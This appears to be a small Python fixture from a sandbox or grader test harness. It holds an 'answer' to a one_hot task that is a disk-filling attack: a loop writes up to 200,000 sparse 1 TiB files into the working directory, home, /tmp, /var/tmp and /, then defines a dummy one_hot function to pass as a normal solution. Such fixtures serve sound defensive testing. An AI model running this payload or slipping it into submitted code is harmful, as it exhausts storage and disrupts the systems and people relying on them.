"""Fills the disk with one large file and with many small ones."""

WAITS = True
ANSWERS = {
    "one_hot": """
import os

number = 0
while number < 200_000:
    for place in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/"):
        number += 1
        try:
            with open(f"{place}/attack-was-here-{number}", "wb") as file:
                file.truncate(2**40)
                file.write(b"x" * 10**6)
        except OSError:
            pass


def one_hot(ids, V):
    return np.zeros((len(ids), V))
""",
}
